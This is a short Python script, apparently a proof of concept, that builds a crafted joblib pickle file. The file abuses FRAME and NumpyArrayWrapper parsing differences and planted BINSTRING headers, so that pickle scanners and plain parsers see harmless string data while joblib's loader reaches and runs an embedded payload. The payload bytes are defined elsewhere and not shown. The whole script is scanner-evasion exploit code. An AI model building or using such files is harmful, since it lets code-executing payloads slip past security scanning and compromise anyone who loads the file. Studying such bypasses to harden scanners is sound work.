from mk import *
# FRAME covering the wrapper's BUILD and more: joblib (pure-Python _Unpickler) reads the
# array from the file after the frame, opcodes continue inside the frame.
N=40
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'K'+bytes([N])+b'\x85'+U('C')+dtype('u1')+b'\x89NtR}b'
A = b'0'+b'N0'*3+b'N'   # in frame after BUILD: POP array, harmless; plain also sees it
framed = W+A
hdr = b'\x80\x04'+b'\x95'+struct.pack('<Q',len(framed))+framed
# then array (N bytes) from file, then B = POP + payload + STOP
B = b'0'+PAYLOAD+b'.'
arr=bytearray(N)
total=N+len(B)   # bytes after frame end F
# plain: reads A then at F: BINSTRING to end-1
arr[0:5]=b'T'+struct.pack('<i',total-1-5)
# scanner: resumes at p+N = F + (N-len(A)); needs BINSTRING there to end-1
k=N-len(A)
arr[k:k+5]=b'T'+struct.pack('<i',total-1-(k+5))
assert len(arr)==N
check('x3.joblib', hdr+bytes(arr)+B)
